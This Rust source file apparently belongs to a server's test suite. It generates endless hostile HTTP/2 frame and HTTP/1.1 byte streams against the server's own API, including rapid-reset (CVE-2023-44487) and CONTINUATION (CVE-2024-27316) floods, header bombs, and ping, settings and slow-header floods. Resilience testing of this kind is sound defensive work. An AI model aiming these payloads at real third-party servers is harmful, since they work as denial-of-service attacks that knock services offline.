//! Endless streams of bytes from a hostile client. Each flood has first bytes, and then waves of bytes.

use super::frames::*;

/// A flood.
pub(crate) struct Flood {
    /// A description for messages.
    pub(crate) what: &'static str,
    pub(crate) begin: Vec<u8>,
    /// The bytes of the n-th wave.
    pub(crate) wave: Box<dyn Fn(u32) -> Vec<u8>>,
    /// Whether the client reads responses.
    pub(crate) reads: bool,
}

fn flood(what: &'static str, begin: Vec<u8>, wave: impl Fn(u32) -> Vec<u8> + 'static) -> Flood {
    Flood {
        what,
        begin,
        wave: Box::new(wave),
        reads: true,
    }
}

fn deaf(flood: Flood) -> Flood {
    Flood {
        reads: false,
        ..flood
    }
}

/// The number of the n-th stream.
fn stream(n: u32) -> u32 {
    2 * n + 1
}

/// All floods, for a caller with `key`.
pub(crate) fn all(key: &str) -> Vec<Flood> {
    let get = call("GET", "/v1/games?limit=100", key);
    let post = call("POST", "/v1/games", key);
    let mut floods = of_calls(&get);
    floods.extend(of_headers(&get));
    floods.extend(of_data(&get, &post));
    floods.extend(of_other_frames());
    floods.extend(of_text(key));
    floods
}

/// `END_HEADERS` and `END_STREAM`.
const WHOLE: u8 = END_HEADERS | END_STREAM;

#[rustfmt::skip]
fn of_calls(get: &[u8]) -> Vec<Flood> {
    let (taken_back, spoilt, endless) = (get.to_vec(), get.to_vec(), get.to_vec());
    // The client allows the server to send no byte of a response's body.
    let calls: Vec<u8> = (0..100).flat_map(|n| frame(HEADERS, WHOLE, stream(n), get)).collect();
    let starved = [hello_with(&[(4, 0)]), calls].concat();
    vec![
        // CVE-2023-44487
        flood("calls that are taken back", hello(), move |n| {
            [frame(HEADERS, WHOLE, stream(n), &taken_back), frame(RESET, 0, stream(n), &[0, 0, 0, 8])].concat()
        }),
        flood("calls that are spoilt after they were made", hello(), move |n| {
            [frame(HEADERS, WHOLE, stream(n), &spoilt), frame(WINDOW, 0, stream(n), &[0; 4])].concat()
        }),
        flood("calls whose bodies never end", hello(), move |n| frame(HEADERS, END_HEADERS, stream(n), &endless)),
        flood("calls whose answers are not let through", starved, |_| frame(PING, 0, 0, &[7; 8])),
    ]
}

#[rustfmt::skip]
fn of_headers(get: &[u8]) -> Vec<Flood> {
    let begun = [hello(), frame(HEADERS, END_STREAM, 1, get)].concat();
    let long = "a".repeat(4_000);
    let bomb = [fields(0x40, &[("x", &long)]), vec![0xbe; 12_000]].concat();
    vec![
        // CVE-2024-27316
        flood("headers that never end", begun.clone(), |n| frame(CONTINUATION, 0, 1, &fields(0, &[(&format!("x-{n}"), "a")]))),
        flood("headers that never end, of nothing", begun.clone(), |_| frame(CONTINUATION, 0, 1, &[])),
        flood("one header that never ends", begun, |_| frame(CONTINUATION, 0, 1, &[b'a'; 16_000])),
        flood("a long header, repeated by its number", hello(), move |n| frame(HEADERS, WHOLE, stream(n), &bomb)),
    ]
}

#[rustfmt::skip]
fn of_data(get: &[u8], post: &[u8]) -> Vec<Flood> {
    let open = |fields| [hello(), frame(HEADERS, END_HEADERS, 1, fields)].concat();
    vec![
        flood("data of nothing", open(post), |_| frame(DATA, 0, 1, &[])),
        flood("data byte by byte", open(post), |_| frame(DATA, 0, 1, b"x")),
        flood("data that is all padding", open(post), |_| frame(DATA, PADDED, 1, &[&[255][..], &[0; 255]].concat())),
        flood("data beyond the window", open(post), |_| frame(DATA, 0, 1, &[0; 16_000])),
        flood("data of calls that were never made", open(get), |n| frame(DATA, 0, stream(n), b"x")),
        flood("a frame of 16 MiB", [hello(), vec![255, 255, 255, DATA, 0, 0, 0, 0, 1]].concat(), |_| vec![0; 16_000]),
    ]
}

#[rustfmt::skip]
fn of_other_frames() -> Vec<Flood> {
    let setting = |name: [u8; 2], value: u32| frame(SETTINGS, 0, 0, &[&name[..], &value.to_be_bytes()].concat());
    vec![
        flood("settings for windows", hello(), move |n| setting([0, 4], n % 65_536)),
        flood("settings for the header table", hello(), move |n| setting([0, 1], n)),
        flood("pings", hello(), |_| frame(PING, 0, 0, &[7; 8])),
        deaf(flood("pings, with nobody to hear the echo", hello(), |_| frame(PING, 0, 0, &[7; 8]))),
        flood("windows", hello(), |_| frame(WINDOW, 0, 0, &[0, 0, 0, 1])),
        flood("a window beyond its bound", hello(), |_| frame(WINDOW, 0, 0, &[127, 255, 255, 255])),
        flood("priorities", hello(), |n| frame(PRIORITY, 0, stream(n), &[0, 0, 0, 0, 1])),
        flood("resets of what was never opened", hello(), |n| frame(RESET, 0, stream(n), &[0; 4])),
        flood("promises", hello(), |_| frame(PROMISE, END_HEADERS, 1, &[0, 0, 0, 2])),
        flood("farewells", hello(), |_| frame(GO_AWAY, 0, 0, &[0; 8])),
        flood("frames of an unknown kind", hello(), |_| frame(250, 0, 0, &[0; 16_000])),
    ]
}

/// The floods of HTTP/1.1.
#[rustfmt::skip]
fn of_text(key: &str) -> Vec<Flood> {
    let head = format!("GET /v1/games?limit=100 HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {key}\r\n");
    let chunked = format!("{head}transfer-encoding: chunked\r\n\r\n").into_bytes();
    let calls = format!("{head}\r\n").into_bytes();
    vec![
        deaf(flood("calls whose answers nobody takes", Vec::new(), move |_| calls.clone())),
        flood("empty lines", Vec::new(), |_| b"\r\n".repeat(100)),
        flood("a first line that never ends", b"GET /".to_vec(), |_| vec![b'a'; 1_000]),
        flood("a header that never ends", format!("{head}x: ").into_bytes(), |_| vec![b'a'; 1_000]),
        flood("headers that never end", head.into_bytes(), |n| format!("x-{n}: a\r\n").into_bytes()),
        flood("chunks", chunked.clone(), |_| b"1\r\nx\r\n".repeat(100)),
        flood("a chunk with words that never end", [&chunked[..], b"1;"].concat(), |_| vec![b'a'; 1_000]),
        flood("trailers", [&chunked[..], b"0\r\n"].concat(), |n| format!("x-{n}: a\r\n").into_bytes()),
    ]
}
